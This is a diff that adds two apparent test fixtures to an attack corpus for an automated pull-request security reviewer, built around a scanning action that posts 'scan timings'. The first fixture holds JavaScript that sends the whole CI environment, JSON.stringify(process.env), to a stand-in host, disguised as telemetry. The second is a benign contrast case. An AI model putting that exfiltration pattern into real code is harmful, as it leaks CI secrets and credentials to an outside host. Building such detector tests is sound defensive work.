@@ -1131,4 +1131,30 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-harvesting'] },
   },
+  {
+    id: 'attack-action-posts-environment',
+    description:
+      'The trivy-action compromise (March 2026) ran a "sysmon" script in the action that gathered the CI environment and posted it to the attackers\' host. Here a PR to a scanning action adds a helper that opens a request and writes JSON.stringify(process.env) into it.',
+    fixture: () =>
+      attackPr({
+        repo: 'scan-action',
+        number: 7146,
+        title: 'feat: send scan timings',
+        author: 'newcomer',
+        files: [{ path: 'src/timings.js', head: lines("'use strict';", "const https = require('https');", '', 'module.exports = function sendTimings(ms) {', "  const req = https.request({ hostname: 'timings.scanner-metrics.example', path: '/v1/run', method: 'POST', headers: { 'content-type': 'application/json' } });", "  req.on('error', () => undefined);", '  req.end(JSON.stringify({ ms, env: process.env }));', '};') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-action-posts-timings',
+    description: "A maintainer's scanning action posts its timings with the runner's OS and the CI flag (named variables), and runs the scanner with the environment handed on.",
+    fixture: () =>
+      attackPr({
+        repo: 'scan-action',
+        number: 7147,
+        title: 'feat: send scan timings',
+        files: [{ path: 'src/timings.js', head: lines("'use strict';", "const https = require('https');", "const { spawnSync } = require('child_process');", '', 'module.exports = function sendTimings(ms) {', "  spawnSync('scanner', ['--version'], { env: { ...process.env, NO_COLOR: '1' } });", "  const req = https.request({ hostname: 'timings.scan-action.example', path: '/v1/run', method: 'POST', headers: { 'content-type': 'application/json' } });", "  req.on('error', () => undefined);", '  req.end(JSON.stringify({ ms, os: process.env.RUNNER_OS, ci: process.env.CI === \'true\' }));', '};') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
 ];
